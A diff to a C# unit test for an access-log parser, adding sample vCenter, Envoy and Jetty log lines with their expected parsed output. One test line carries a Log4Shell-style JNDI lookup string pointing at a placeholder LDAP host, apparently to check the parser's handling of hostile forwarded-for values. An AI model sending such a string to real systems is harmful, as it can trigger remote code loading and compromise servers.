@@ -49,6 +49,28 @@ public class LoadAccessLineTests
         "2023-03-07T11:34:53.329Z POST /rest/com/vmware/cis/session?~action=get 401   172.30.6.33 "
     )]
     [InlineData(
+        // The format that a public parser of a SIEM has for vCenter's Envoy, x_forwarded_for first:
+        // https://github.com/natesmalley/jarvis_coding, vmware_vcenter_log
+        Header + "2026-07-23T18:54:49.431Z GET /sdk HTTP/1.1 503 - - 100 200 12 11 203.0.113.9 127.0.0.1:8085 127.0.0.1:49192 10.0.0.1:443 "
+            + "10.0.0.7:38396 vc01.example.org default",
+        "2026-07-23T18:54:49.431Z GET /sdk 503   10.0.0.7 12"
+    )]
+    [InlineData(
+        // Envoy's default format: https://www.envoyproxy.io/docs/envoy/latest/configuration/observability/access_log/usage
+        "[2016-04-15T20:17:00.310Z] \"POST /api/v1/locations HTTP/2\" 204 - 154 0 226 100 \"10.0.35.28\" \"nsq2http\" \"cc21d9b0\" "
+            + "\"locations\" \"tcp://10.0.2.1:80\"",
+        "2016-04-15T20:17:00.310Z POST /api/v1/locations 204   10.0.35.28 226"
+    )]
+    [InlineData(
+        "[2016-04-15T20:17:00.310Z] \"POST /api/session HTTP/2\" 503 UH 154 0 226 - \"${jndi:ldap://192.0.2.3/x}, 10.0.35.28\" \"-\"",
+        "2016-04-15T20:17:00.310Z POST /api/session 503 UH UH 10.0.35.28 226"
+    )]
+    [InlineData(
+        // Jetty's own format of the request log (NCSA), as in its documentation.
+        "172.30.6.33 - - [07/Mar/2023:11:34:53 +0100] \"POST /api/session HTTP/1.1\" 503 442 \"-\" \"infrastructure\" 1",
+        "2023-03-07T10:34:53.000Z POST /api/session 503   172.30.6.33 "
+    )]
+    [InlineData(
         Header + "[2026-07-23T18:54:49.431Z] \"GET /ui/ HTTP/2\" 200 - 17 4711 25 24 10.0.0.7:5000",
         "2026-07-23T18:54:49.431Z GET /ui/ 200   10.0.0.7 25"
     )]
